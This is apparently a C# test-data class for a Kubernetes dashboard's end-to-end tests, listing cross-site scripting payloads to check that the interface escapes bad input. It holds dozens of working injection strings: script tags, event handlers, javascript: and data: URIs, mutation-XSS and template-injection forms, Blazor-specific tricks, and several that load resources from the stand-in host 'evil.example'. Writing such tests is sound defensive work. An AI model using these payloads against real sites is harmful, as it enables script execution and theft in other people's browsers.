namespace K8sDashboard.EndToEnd.Tests.BadInputs;

/// <summary>
/// XSS payloads in the contexts of markup, style, URL and script. Each would set a flag, open a dialog or call another server.
/// </summary>
internal static class XssPayloads
{
    private const string Do = "window.__xss=1;alert(1)";
    private const string Evil = "//evil.example/x";

    private static readonly string[] Cores =
    [
        $"<script>{Do}</script>",
        $"<SCRIPT SRC={Evil}></SCRIPT>",
        $"<img src=x onerror={Do}>",
        $"<img src={Evil}>",
        $"<svg onload={Do}>",
        $"<svg><script>{Do}</script></svg>",
        $"<svg><animate onbegin={Do} attributeName=x dur=1s>",
        $"<iframe srcdoc='<script>parent.{Do}</script>'>",
        $"<iframe src=javascript:{Do}>",
        $"<object data=javascript:{Do}>",
        $"<embed src=javascript:{Do}>",
        $"<details open ontoggle={Do}>",
        $"<video><source onerror={Do}>",
        $"<audio src=x onerror={Do}>",
        $"<input autofocus onfocus={Do}>",
        $"<marquee onstart={Do}>",
        $"<body onload={Do}>",
        $"<a href=javascript:{Do}>x</a>",
        $"<form action=javascript:{Do}><button autofocus>",
        $"<math href=javascript:{Do}>x",
        $"<style>@import '{Evil}';</style>",
        $"<link rel=stylesheet href={Evil}>",
        $"<meta http-equiv=refresh content='0;url={Evil}'>",
        $"<base href={Evil}>",
    ];

    private static readonly string[] Prefixes = ["", "\">", "'>", "</title></textarea></style></script>", "-->"];

    private static readonly string[] Others =
    [
        $"\" onmouseover=\"{Do}",
        $"' onfocus='{Do}' autofocus='",
        $"` onerror={Do} `",
        $"\" style=\"background:url({Evil})",
        $"javascript:{Do}",
        $"JaVaScRiPt:{Do}",
        $"data:text/html,<script>{Do}</script>",
        $"vbscript:{Do}",
        $"&lt;script&gt;{Do}&lt;/script&gt;",
        $"&#60;img src=x onerror={Do}&#62;",
        $"\\u003cscript\\u003e{Do}",
        $"%3Cscript%3E{Do}%3C/script%3E",
        $"{{{{constructor.constructor('{Do}')()}}}}",
        $"${{{Do}}}",
        $"@({Do})",
        $"#{{{Do}}}",
        $"';{Do};//",
        $"\";{Do};//",
        $"\\\";{Do};//",
        $"</script><script>{Do}",
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"x\"}-->",
        "<form id=Blazor><input name=reconnect>",
        "<img name=DotNet>",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Do}>\">",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Do}&gt;\">",
        $"<noscript><p title=\"</noscript><img src=x onerror={Do}>\">",
        $"<![CDATA[<script>{Do}</script>]]>",
        $"<?xml-stylesheet href=\"{Evil}\"?>",
        "__proto__",
        "constructor",
        $"}}]}}<script>{Do}</script>",
        $"<template><script>{Do}</script></template>",
        $"<x onclick={Do} tabindex=1 autofocus>",
        $"<svg><use href=\"data:image/svg+xml,{Evil}\">",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Prefixes.SelectMany(prefix => Cores.Select(core => prefix + core)), .. Others];
}
